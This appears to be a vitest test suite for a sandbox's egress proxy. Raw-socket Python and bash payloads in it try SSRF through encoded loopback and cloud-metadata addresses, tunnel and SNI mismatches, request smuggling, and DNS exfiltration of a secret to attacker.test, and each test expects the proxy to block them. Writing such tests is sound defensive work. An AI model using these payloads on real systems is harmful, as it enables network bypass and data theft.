import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, expect, it } from "vitest";
import { cleanUp, internal, startHost, startTlsHost } from "../../sandbox/egress/egress-fixture.ts";
import { SETTINGS } from "../../sandbox/sandbox-fixture.ts";
import { underAttack } from "./site.ts";

const API = "api.allowed.test";
const folder = mkdtempSync(join(tmpdir(), "clawgate-attack-"));
afterAll(async () => {
  await cleanUp();
  rmSync(folder, { recursive: true, force: true });
});

const plain = await startHost((request, response) => {
  if (request.url === "/redirect") response.writeHead(302, { location: "http://denied.test/" });
  response.end(`plain ${request.headers.host}`);
});
const secure = await startTlsHost(API, (_request, response) => response.end("secure"));
// Nothing may ever arrive here.
const forbidden = await startHost();
writeFileSync(join(folder, "ca.pem"), secure.caPem);

const ports = { 80: plain.port, 443: secure.port, 8080: plain.port, 22: forbidden.port };
const settings = {
  execution: { ...SETTINGS.execution, max_memory_mb: 512 },
  network: {
    mode: "whitelist",
    allowed_domains: [API, "private.test", "metadata.test", "*.wild.test", "127.0.0.1"],
    blocked_ports: [22, 3389],
  },
  hosts: {
    [API]: internal(ports),
    "sub.wild.test": internal({ 80: plain.port }),
    "wild.test": internal({ 80: forbidden.port }),
    "denied.test": internal({ 80: forbidden.port, 443: forbidden.port }),
    "private.test": { address: "127.0.0.1", port_map: { "80": forbidden.port } },
    "metadata.test": { address: "169.254.169.254" },
  },
  audit: { log_all_commands: true, log_network_requests: true, log_file_access: true },
  egress_ca_file: join(folder, "ca.pem"),
} as const;

const online = { request: { egress: "settings" } } as const;
const lan = Object.values(networkInterfaces())
  .flat()
  .flatMap((each) => (each && each.family === "IPv4" && !each.internal ? [each.address] : []));

// Speaks to the proxy by hand, as a client that knows no rules.
const RAW = `
import socket, ssl, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["http_proxy"])
def dial():
    s = socket.create_connection((proxy.hostname, proxy.port), 5); s.settimeout(5); return s
def read(s):
    data = b""
    try:
        while True:
            more = s.recv(65536)
            if not more: break
            data += more
    except OSError: pass
    return data.decode("latin1")
def say(text):
    s = dial(); s.sendall(text.encode("latin1")); return read(s)
def status(text): return text.split(" ")[1] if text.startswith("HTTP/1.") else "closed"
def tunnel(authority):
    s = dial(); s.sendall(f"CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n\\r\\n".encode("latin1"))
    head = s.recv(65536).decode("latin1")
    return s if " 200" in head.split("\\r\\n")[0] else status(head)
`;

await underAttack("the network", settings, (site) => {
  const NODE = { limits: { memoryBytes: 512 << 20 }, ...online };

  it("lets ordinary clients through to what is allowed, unchanged", async () => {
    const bash = await site.attack(
      "bash",
      `curl -s http://${API}/; echo; curl -s https://${API}/; echo; curl -s http://sub.wild.test/`,
      online,
    );
    expect(bash.stdout.toString()).toBe(`plain ${API}\nsecure\nplain sub.wild.test`);
    const python = await site.attack(
      "python",
      `from urllib.request import urlopen\nprint(urlopen("http://${API}/").read(), urlopen("https://${API}/").read())`,
      online,
    );
    expect(python.stdout.toString()).toBe(`b'plain ${API}' b'secure'\n`);
    const node = await site.attack(
      "javascript",
      `(async () => { for (const u of ["http://${API}/", "https://${API}/"]) console.log(await (await fetch(u)).text()) })()`,
      NODE,
    );
    expect(node.stdout.toString()).toBe(`plain ${API}\nsecure\n`);
    const direct = await site.attack(
      "bash",
      `unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY all_proxy
       curl -s http://${API}/; echo; curl -s https://${API}/; echo
       exec 3<>/dev/tcp/${API}/80; printf 'GET / HTTP/1.0\\r\\nHost: ${API}\\r\\n\\r\\n' >&3; tail -n1 <&3`,
      online,
    );
    expect(direct.stdout.toString()).toBe(`plain ${API}\nsecure\nplain ${API}`);
  });

  it("attack: addresses in every notation, by the proxy and past it", async () => {
    const port = forbidden.port;
    const addresses = [
      ...["127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1"],
      ...["017700000001", "127.0.0.1.", "0", "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]"],
      ...["[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "localhost", "LOCALHOST", "a@127.0.0.1"],
      ...[
        "\u2460\u2461\u2466.0.0.1",
        "\uff11\uff12\uff17.0.0.1",
        "127%2e0%2e0%2e1",
        "127.0.0.1%00.test",
      ],
      ...["169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "2852039166", ...lan],
    ];
    const found = await site.spy(
      `${RAW}
for a in ${JSON.stringify(addresses)}:
    a8 = a.encode().decode("latin1")
    tell("GET " + a, status(say(f"GET http://{a8}:${port}/ HTTP/1.1\\r\\nHost: {a8}\\r\\nConnection: close\\r\\n\\r\\n")))
    for p in (${port}, 443):
        t = tunnel(f"{a8}:{p}")
        tell(f"CONNECT {a}:{p}", t if isinstance(t, str) else "open")
for a in ("127.0.0.1", "10.0.2.2", "169.254.169.254", "8.8.8.8", *${JSON.stringify(lan)}):
    try: socket.create_connection((a, ${port}), 1); tell("direct " + a, "open")
    except OSError: tell("direct " + a, "closed")
`,
      online,
    );
    const passed = Object.entries(found).filter(([, how]) => how === "open" || how === "200");
    expect(passed).toEqual([]);
    expect(Object.keys(found).length).toBeGreaterThan(80);
  });

  it("attack: names that are not on the list, however they are written", async () => {
    const names = [
      ...["denied.test", "DENIED.test", "wild.test", `${API}.denied.test`, "xapi.allowed.test"],
      ...[
        "allowed.test",
        `${API}@denied.test`,
        `denied.test#${API}`,
        "evil-wild.test",
        "..wild.test",
      ],
      ...[`${API}%00.denied.test`, "private.test", "metadata.test"],
    ];
    const found = await site.spy(
      `${RAW}
for n in ${JSON.stringify(names)}:
    tell("GET " + n, status(say(f"GET http://{n}/ HTTP/1.1\\r\\nHost: {n}\\r\\nConnection: close\\r\\n\\r\\n")))
    t = tunnel(f"{n}:443"); tell("CONNECT " + n, t if isinstance(t, str) else "open")
for n in ("denied.test", "wild.test", "private.test"):
    attempt("resolve " + n, lambda: socket.getaddrinfo(n, 80)[0][4][0])
`,
      online,
    );
    const passed = Object.entries(found).filter(
      ([name, how]) =>
        how === "open" || how === "200" || (name.startsWith("resolve d") && how !== "gaierror"),
    );
    expect(passed).toEqual([]);
    expect(forbidden.requests).toEqual([]);
  });

  it("attack: a blocked port on an allowed host, and the host's own ports by its name", async () => {
    const runId = `ports-${site.engine}`;
    const found = await site.spy(
      `${RAW}
for p in (22, 3389):
    tell(f"GET {p}", status(say(f"GET http://${API}:{p}/ HTTP/1.1\\r\\nHost: ${API}:{p}\\r\\nConnection: close\\r\\n\\r\\n")))
    t = tunnel(f"${API}:{p}"); tell(f"CONNECT {p}", t if isinstance(t, str) else "open")
`,
      { request: { egress: "settings", runId } },
    );
    expect(new Set(Object.values(found))).toEqual(new Set(["403"]));
    expect(site.recordOf(runId)).toContainEqual(
      expect.objectContaining({ event: "egress", host: API, port: 22, decision: "deny" }),
    );
    expect(forbidden.requests).toEqual([]);
  });

  it("attack: another name inside the tunnel than at its door, or no TLS at all", async () => {
    const found = await site.spy(
      `${RAW}
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
def inside(name):
    t = tunnel("${API}:443")
    if isinstance(t, str): return t
    try:
        with context.wrap_socket(t, server_hostname=name) as s:
            s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"); return read(s)[-6:]
    except OSError: return "refused"
def speak(first):
    t = tunnel("${API}:443")
    if isinstance(t, str): return t
    t.sendall(first); return read(t)
tell("right", inside("${API}"))
tell("other", inside("denied.test"))
tell("none", inside(None))
tell("plain", speak(b"GET / HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n"))
tell("ssh", speak(b"SSH-2.0-x\\r\\n"))
`,
      online,
    );
    expect(found).toMatchObject({ right: "secure", other: "refused", none: "refused" });
    expect(`${found.plain}${found.ssh}`).not.toMatch(/ 200 |plain api|secure/);
  });

  it("attack: another Host than the address, and requests within requests", async () => {
    const before = plain.requests.length;
    const found = await site.spy(
      `${RAW}
tell("host", say("GET http://${API}/ HTTP/1.1\\r\\nHost: denied.test\\r\\nConnection: close\\r\\n\\r\\n"))
tell("two", say("GET http://${API}/ HTTP/1.1\\r\\nHost: ${API}\\r\\nHost: denied.test\\r\\nConnection: close\\r\\n\\r\\n"))
tell("origin", status(say("GET / HTTP/1.1\\r\\nHost: ${API}\\r\\nConnection: close\\r\\n\\r\\n")))
tell("both", status(say("POST http://${API}/ HTTP/1.1\\r\\nHost: ${API}\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://denied.test/ HTTP/1.1\\r\\n\\r\\n")))
tell("next", say("GET http://${API}/ HTTP/1.1\\r\\nHost: ${API}\\r\\n\\r\\nGET http://denied.test/ HTTP/1.1\\r\\nHost: denied.test\\r\\nConnection: close\\r\\n\\r\\n").count("200 OK"))
`,
      online,
    );
    const seen = plain.requests.slice(before).map(({ headers }) => headers.host);
    expect(new Set(seen)).toEqual(new Set([API]));
    expect(String(found.host)).not.toContain("plain denied.test");
    expect([found.origin, found.both]).toEqual(["400", "400"]);
    expect(found.next).toBeLessThanOrEqual(1);
    expect(forbidden.requests).toEqual([]);
  });

  it("attack: a redirect out of the list", async () => {
    const result = await site.attack(
      "bash",
      `curl -sL -o /dev/null -w '%{http_code} %{num_redirects}' http://${API}/redirect`,
      online,
    );
    expect(result.stdout.toString()).toMatch(/^(?:403|000) 1$/);
    expect(forbidden.requests).toEqual([]);
  });

  it("attack: carrying data out in questions to name servers, or in datagrams", async () => {
    const found = await site.spy(
      `
import socket
for n in ("s3cret.attacker.test", "s3cret.example.com", "s3cret." + "${API}"):
    attempt("name " + n, lambda: socket.getaddrinfo(n, 80))
for to in (("8.8.8.8", 53), ("1.1.1.1", 53), ("127.0.0.53", 53), ("127.0.0.1", 53), ("224.0.0.251", 5353), ("255.255.255.255", 9)):
    def ask():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.4)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(bytes.fromhex("00010100000100000000000006733363726574027465000001000 1".replace(" ", "")), to); return s.recv(512).hex()
    attempt(f"datagram {to}", ask)
tell("servers", open("/etc/resolv.conf").read() if os.path.exists("/etc/resolv.conf") else "")
`,
      online,
    );
    const { servers, ...attempts } = found;
    expect(String(servers)).not.toMatch(/nameserver/);
    expect(Object.values(attempts).every((how) => /[eE]rror|timeout/.test(String(how)))).toBe(true);
  });

  it("attack: any way out when there is to be none", async () => {
    const found = await site.spy(
      `
import socket
tell("variables", [name for name in os.environ if "proxy" in name.lower()])
for to in (("127.0.0.1", 3128), ("127.0.0.2", 80), ("127.0.0.2", 443), ("127.0.0.1", ${plain.port})):
    attempt(str(to), lambda: bool(socket.create_connection(to, 0.5)))
attempt("name", lambda: socket.getaddrinfo("${API}", 80))
sockets = []
import stat
for root, _, names in os.walk("/run"):
    for n in names:
        if stat.S_ISSOCK(os.lstat(os.path.join(root, n)).st_mode): sockets.append(n)
tell("sockets", sockets)
`,
      { request: { egress: "none" } },
    );
    const { variables, sockets, ...attempts } = found;
    expect([variables, sockets]).toEqual([[], []]);
    expect(Object.values(attempts).every((how) => /[eE]rror$/.test(String(how)))).toBe(true);
  });

  it("puts every decision on record, with host and port, and none of the query", async () => {
    const runId = `decisions-${site.engine}`;
    await site.attack(
      "bash",
      `curl -s 'http://${API}:8080/a?token=s3cret-query' ; curl -s http://denied.test/x; curl -s https://${API}/`,
      { request: { egress: "settings", runId } },
    );
    const decisions = site.recordOf(runId).filter(({ event }) => event === "egress");
    const shown = decisions.map(({ host, port, decision }) => `${decision} ${host}:${port}`);
    expect(shown.sort()).toEqual([`allow ${API}:443`, `allow ${API}:8080`, "deny denied.test:80"]);
    // What the job was told to run is its own record; what was asked for must not repeat the query.
    expect(JSON.stringify(decisions)).not.toContain("s3cret-query");
  });
});
